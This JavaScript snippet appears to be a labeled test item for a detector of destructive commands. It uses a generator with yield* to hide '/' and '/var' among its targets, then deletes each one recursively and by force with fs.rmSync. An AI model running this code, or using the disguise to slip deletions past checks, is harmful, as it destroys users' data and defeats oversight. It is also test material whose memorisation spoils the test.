// evasion: a generator function expression delegates with yield* to a list holding '/'; a for-of loop removes what it yields
// grade: hard; does: delete
'use strict';
const fs = require('fs');
const targets = function* () { yield '/tmp/x'; yield* ['/', '/var']; };
for (const t of targets()) fs.rmSync(t, { recursive: true, force: true });
